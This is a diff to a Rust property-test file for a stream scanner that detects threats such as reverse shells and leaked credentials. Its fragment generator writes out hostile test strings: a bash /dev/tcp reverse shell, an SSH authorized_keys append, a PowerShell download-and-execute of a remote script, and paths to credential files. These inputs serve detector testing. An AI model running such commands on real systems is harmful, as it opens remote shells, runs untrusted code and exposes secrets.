@@ -3,10 +3,18 @@
 
 mod common;
 
-use guardian_parser::scan::{reference_scan, Direction, Platform, RawMatch, Registry, RegistryOptions, RuleSpec, Severity, StreamScanner, ThreatType, BLOCK};
+use guardian_parser::scan::{
+    reference_scan, Direction, Platform, RawMatch, Registry, RegistryOptions, RuleSpec, Severity,
+    StreamScanner, ThreatType, BLOCK,
+};
 use proptest::prelude::*;
 
-fn scan_chunked(registry: &Registry, direction: Direction, data: &[u8], sizes: &[usize]) -> Vec<RawMatch> {
+fn scan_chunked(
+    registry: &Registry,
+    direction: Direction,
+    data: &[u8],
+    sizes: &[usize],
+) -> Vec<RawMatch> {
     let mut scanner = StreamScanner::new(registry, direction, u64::MAX);
     let mut out = Vec::new();
     let (mut pos, mut i) = (0, 0);
@@ -40,7 +48,22 @@ fn fragment() -> impl Strategy<Value = Vec<u8>> {
         Just(b"bash -i >& /dev/tcp/1.2.3.4/9 0>&1".to_vec()),
         Just(b" >> ~/.ssh/authorized_keys".to_vec()),
         Just(b"bash -c 'id'".to_vec()),
-        proptest::collection::vec(prop_oneof![Just(b' '), Just(b'\n'), Just(b'/'), Just(b'-'), Just(b'a'), Just(b'Z'), Just(b'7'), any::<u8>()], 0..40),
+        Just(b"IeX (iWr https://x.example/a.ps1)".to_vec()),
+        Just(b"CMD.exe /C whoami".to_vec()),
+        Just(b"/.env /.npmrc ../.bash_history".to_vec()),
+        proptest::collection::vec(
+            prop_oneof![
+                Just(b' '),
+                Just(b'\n'),
+                Just(b'/'),
+                Just(b'-'),
+                Just(b'a'),
+                Just(b'Z'),
+                Just(b'7'),
+                any::<u8>()
+            ],
+            0..40
+        ),
     ]
 }
 
@@ -69,7 +92,9 @@ proptest! {
             for (rule, range) in reference_scan(&registry, direction, &data) {
                 let spec = specs.iter().find(|s| s.id == registry.rule(rule).id).unwrap();
                 let at = &data[range.start as usize..];
-                prop_assert!(spec.literals.iter().any(|l| at.len() >= l.len() && at[..l.len()].eq_ignore_ascii_case(l.as_bytes())),
+                let starts = spec.literals.iter().any(|l| at.starts_with(l.as_bytes()))
+                    || spec.ci_literals.iter().any(|l| at.len() >= l.len() && at[..l.len()].eq_ignore_ascii_case(l.as_bytes()));
+                prop_assert!(starts,
                     "{} matched at a position no literal covers: {:?}", spec.id, String::from_utf8_lossy(&data[range.start as usize..range.end as usize]));
                 prop_assert!(range.end - range.start <= registry.rule(rule).max_len as u64);
             }
@@ -125,14 +150,22 @@ fn extra(id: &str, literals: &[&str], regex: &str) -> RuleSpec {
         severity: Severity::High,
         platform: None,
         literals: literals.iter().map(|s| s.to_string()).collect(),
+        ci_literals: vec![],
         regex: regex.into(),
+        boundary: guardian_parser::scan::Boundary::Any,
         check: None,
+        consumes_rejected: false,
     }
 }
 
 #[test]
 fn extra_patterns_are_validated_and_used() {
-    let build = |spec: RuleSpec| Registry::new(RegistryOptions { extra: vec![spec], ..Default::default() });
+    let build = |spec: RuleSpec| {
+        Registry::new(RegistryOptions {
+            extra: vec![spec],
+            ..Default::default()
+        })
+    };
     let registry = build(extra("corp_token", &["CORP-"], r"CORP-[0-9A-F]{32}")).unwrap();
     let data = b"x CORP-0123456789ABCDEF0123456789ABCDEF y";
     let found = scan_chunked(&registry, Direction::Outbound, data, &[5]);
@@ -147,12 +180,28 @@ fn extra_patterns_are_validated_and_used() {
     assert!(err(extra("Bad-Id", &["XT-"], r"XT-[A-Z]{3}")).contains("[a-z0-9_]"));
     assert!(err(extra("x_tok", &["XT-"], r"XT-[")).contains("invalid regex"));
     assert!(err(extra("x_tok", &["XT-"], r"(?:XT-)?")).contains("empty"));
-    let unknown = Registry::new(RegistryOptions { disable: vec!["nope".into()], ..Default::default() });
-    assert!(unknown.unwrap_err().to_string().contains("unknown pattern id"));
+    let unknown = Registry::new(RegistryOptions {
+        disable: vec!["nope".into()],
+        ..Default::default()
+    });
+    assert!(unknown
+        .unwrap_err()
+        .to_string()
+        .contains("unknown pattern id"));
 }
 
 #[test]
 fn disabled_patterns_do_not_match() {
-    let registry = Registry::new(RegistryOptions { disable: vec!["aws_access_key_id".into()], ..Default::default() }).unwrap();
-    assert!(scan_chunked(&registry, Direction::Outbound, b" AKIAIOSFODNN7EXAMPLE ", &[3]).is_empty());
+    let registry = Registry::new(RegistryOptions {
+        disable: vec!["aws_access_key_id".into()],
+        ..Default::default()
+    })
+    .unwrap();
+    assert!(scan_chunked(
+        &registry,
+        Direction::Outbound,
+        b" AKIAIOSFODNN7EXAMPLE ",
+        &[3]
+    )
+    .is_empty());
 }
